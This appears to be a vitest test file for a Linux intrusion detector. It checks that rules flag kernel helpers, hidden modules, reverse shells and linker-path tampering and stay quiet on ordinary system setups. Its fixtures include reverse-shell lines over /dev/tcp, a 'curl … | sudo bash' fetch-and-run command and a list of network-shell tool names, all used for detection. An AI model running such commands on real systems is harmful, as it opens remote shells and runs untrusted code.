/** Rules on facts that no throw-away host can have (the kernel's), and what they must leave alone. */
import { expect, test } from 'vitest';
import { footholds } from '../../../../test/lab/footholds/index.ts';
import { fact } from '../artifacts/artifact.ts';
import { artifactOf, artifacts } from '../artifacts/index.ts';
import { traitsOf } from '../artifacts/traits.ts';
import type { Collected, Fact } from '../types.ts';
import { assess } from './assess.ts';
import { findingScoreLine } from './rule.ts';
import { rules } from './rules/index.ts';

const host = (...facts: Fact[]): Collected => ({
  identity: {
    hostname: 'h',
    machineId: '',
    bootId: '',
    bootedAt: null,
    kernel: '',
    osId: 'debian',
    osVersion: '12',
    clockOffsetMs: null,
    container: '',
  },
  facts,
  artifacts: [{ artifact: 'unpackaged', state: 'collected', why: '', bytes: 1, truncated: false }],
  complete: true,
});
/** A package manager is known, and these files are of no package. */
const known = (...paths: string[]): Fact[] => [
  fact({ artifact: 'unpackaged', key: 'packages', value: 'known', detail: { kind: 'known' } }),
  ...paths.map((path) =>
    fact({ artifact: 'unpackaged', key: path, value: 'x', path, detail: { kind: 'file' } }),
  ),
];
const named = (...facts: Fact[]) =>
  assess(host(...facts))
    .filter(({ score }) => score >= findingScoreLine)
    .map(({ rule, technique }) => `${rule} ${technique}`);

const setting = (key: string, value: string) =>
  fact({ artifact: 'kernel', key: `setting ${key}`, value, detail: { kind: 'setting' } });
const process = (detail: Record<string, string>, path = detail.exe?.replace(' (deleted)', '') ?? '') =>
  fact({
    artifact: 'processes',
    key: path,
    value: '',
    path,
    detail: { kind: 'process', pid: '7', ...detail },
  });
const socket = (detail: Record<string, string>) =>
  fact({
    artifact: 'sockets',
    key: 's',
    value: '',
    path: detail.exe ?? '',
    detail: { kind: 'listens', protocol: 'tcp', local: `0.0.0.0:${detail.port}`, ...detail },
  });
const file = (artifact: string, path: string, text = '', detail: Record<string, string> = {}) =>
  fact({
    artifact,
    key: path,
    value: 'h',
    path,
    technique: artifactOf(artifact)?.techniques[0] ?? '',
    detail: { type: 'regular file', mode: '755', text, traits: traitsOf(text).join(' '), ...detail },
  });

const fires: [what: string, facts: Fact[], finding: string][] = [
  ['a crash handler', [setting('kernel/core_pattern', '|/tmp/.x %p')], 'kernel-helper T1546'],
  ['another modprobe', [setting('kernel/modprobe', '/var/lib/.m')], 'kernel-helper T1547.006'],
  ['a helper of events', [setting('uevent_helper', '/root/x')], 'kernel-helper T1547.006'],
  [
    'a hidden module',
    [
      fact({
        artifact: 'kernel',
        key: 'module diamorphine',
        value: 'in /sys/module and not in /proc/modules',
        detail: { kind: 'hidden-module' },
      }),
    ],
    'kernel-module T1014',
  ],
  [
    'a module of another kernel',
    [
      fact({
        artifact: 'kernel',
        key: 'module snd_x',
        value: 'loaded OE',
        detail: { kind: 'module', taint: 'OE' },
      }),
    ],
    'kernel-module T1547.006',
  ],
  ['a process that is not listed', [process({ kind: 'hidden-process', pid: '99' })], 'hidden-process T1014'],
  [
    'a reverse shell',
    [process({ exe: '/usr/bin/bash', command: 'bash -i', traits: 'reverse-shell' })],
    'command-line T1059.004',
  ],
  [
    'a shell with a connection',
    [socket({ exe: '/usr/bin/bash', kind: 'talks', remote: '203.0.113.5:443', port: '40000' })],
    'odd-listener T1071',
  ],
  [
    'two accounts with one uid',
    ['a', 'b'].map((key) =>
      fact({ artifact: 'accounts', key, value: '', detail: { uid: '1001', password: 'locked' } }),
    ),
    'shared-uid T1136.001',
  ],
  [
    'a program in place of linker paths',
    [...known('/etc/ld.so.conf.d/x.conf'), file('preload', '/etc/ld.so.conf.d/x.conf', '/dev/shm/lib')],
    'linker-path T1574.006',
  ],
];

test.each(fires)('%s is named', (_what, facts, finding) => {
  expect(named(...facts)).toContain(finding);
});

const quiet: [what: string, facts: Fact[]][] = [
  [
    'the crash handler of systemd',
    [setting('kernel/core_pattern', '|/usr/lib/systemd/systemd-coredump %P %u')],
  ],
  ['the usual modprobe', [setting('kernel/modprobe', '/sbin/modprobe'), setting('kernel/hotplug', '')]],
  [
    'a service that was upgraded and not yet started anew',
    [...known(), process({ exe: '/usr/sbin/sshd (deleted)', deleted: 'yes', command: 'sshd' })],
  ],
  [
    'runc, which runs from memory',
    [process({ exe: '/memfd:runc_cloned:/proc/self/exe (deleted)', command: 'runc init' }, '')],
  ],
  [
    'jemalloc',
    [
      process({
        exe: '/usr/bin/redis-server',
        command: 'redis',
        preload: 'LD_PRELOAD=/usr/lib/libjemalloc.so.2',
      }),
    ],
  ],
  [
    'a debugger’s port',
    [process({ exe: '/usr/bin/java', command: 'java -agentlib:jdwp=transport=dt_socket x' })],
  ],
  [
    'sshd on 22, nginx, node',
    [
      ...known(),
      socket({ exe: '/usr/sbin/sshd', port: '22' }),
      socket({ exe: '/usr/sbin/nginx', port: '8443' }),
      socket({ exe: '/usr/bin/node', port: '3000' }),
    ],
  ],
  [
    'a packaged unit',
    [
      ...known(),
      file(
        'systemd',
        '/usr/lib/systemd/system/x.service',
        '[Service]\nExecStart=/bin/bash -i >& /dev/tcp/1/2',
      ),
    ],
  ],
  [
    'a unit of a generator',
    [
      ...known('/run/systemd/generator/x.service'),
      file('systemd', '/run/systemd/generator/x.service', 'ExecStart=/x'),
    ],
  ],
  [
    'a comment in a profile',
    [
      ...known('/etc/profile.d/x.sh'),
      file('shell-profiles', '/etc/profile.d/x.sh', '# nothing', { idle: 'yes' }),
    ],
  ],
  [
    'the cleaning hook of images',
    [
      ...known('/etc/apt/apt.conf.d/docker-clean'),
      file(
        'hooks',
        '/etc/apt/apt.conf.d/docker-clean',
        'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };',
      ),
    ],
  ],
  [
    'PAM as Debian sets it up',
    [
      ...known(),
      file(
        'pam',
        '/etc/pam.d/common-auth',
        'auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\nauth required pam_permit.so',
      ),
    ],
  ],
  [
    'a container within its walls',
    [
      fact({
        artifact: 'containers',
        key: 'container x',
        value: 'within its walls',
        detail: { kind: 'container', image: 'nginx', risks: '' },
      }),
    ],
  ],
  [
    'a person’s key',
    [
      fact({
        artifact: 'accounts',
        key: 'eve',
        value: '',
        detail: { uid: '1000', home: '/home/eve', shell: '/bin/bash' },
      }),
      fact({
        artifact: 'ssh-access',
        key: 'k',
        value: '',
        path: '/home/eve/.ssh/authorized_keys',
        detail: { kind: 'key' },
      }),
    ],
  ],
  [
    'ping',
    [
      ...known(),
      fact({
        artifact: 'privileged',
        key: 'capability /usr/bin/ping',
        value: 'cap_net_raw=ep',
        path: '/usr/bin/ping',
        detail: { kind: 'capability' },
      }),
    ],
  ],
  [
    'a packaged SUID program',
    [...known(), file('privileged', '/usr/bin/passwd', '', { kind: 'suid', mode: '4755' })],
  ],
  [
    'a changed setting',
    [
      fact({
        artifact: 'package-verify',
        key: '/etc/ssh/ssh_config',
        value: 'setting',
        path: '/etc/ssh/ssh_config',
        detail: { change: 'setting' },
      }),
    ],
  ],
];

test.each(quiet)('%s is not', (_what, facts) => {
  expect(named(...facts)).toEqual([]);
});

test('what is of no package is not guessed where the list of packages is not whole', () => {
  const facts = [
    ...known(),
    file('privileged', '/usr/bin/x', '', { kind: 'suid', mode: '4755' }),
    file('systemd', '/etc/systemd/system/y.service', 'ExecStart=/y'),
  ];
  const cut = host(...facts);
  cut.artifacts[0] = { artifact: 'unpackaged', state: 'partial', why: 'cut off', bytes: 1, truncated: true };
  expect(assess(cut).filter(({ rule }) => rule === 'suid-program' || rule === 'systemd-unit')).toEqual([]);
});

test('rules have names of their own, judge artifacts that exist, and each has been seen to fire', () => {
  expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
  const seen = new Set([
    ...footholds.map(({ rule }) => rule),
    ...fires.map(([, , finding]) => finding.split(' ')[0]),
  ]);
  const unseen = rules.filter(
    ({ id, artifact }) => !seen.has(id) || !artifacts.some((one) => one.id === artifact),
  );
  expect(unseen.map(({ id }) => id)).toEqual(['traced']);
  expect(named(process({ exe: '/usr/bin/x', command: 'x', tracer: '9' }))).toEqual([]);
});

test('traits are of acts and not of comments, and none of them needs long', () => {
  expect(traitsOf('# bash -i >& /dev/tcp/1.2.3.4/5\nls')).toEqual([]);
  expect(traitsOf('curl http://x/y | sudo bash')).toEqual(['fetch-and-run']);
  const longs = [
    'a',
    'curl http://x ',
    'curl wget /tmp/ base64 chmod nc socat eval openssl enc bash ',
    '/usr/a',
    '\n',
    ' \t',
    'nc -',
    'python -',
    '/usr/./',
    'curl|',
    'curl -o',
    '&&',
  ];
  for (const piece of longs) {
    const long = piece.repeat(64_000 / piece.length);
    // Of the processor: other tests run beside this one.
    const began = globalThis.process.cpuUsage();
    traitsOf(long);
    expect(globalThis.process.cpuUsage(began).user / 1_000, piece).toBeLessThan(2_000);
  }
});
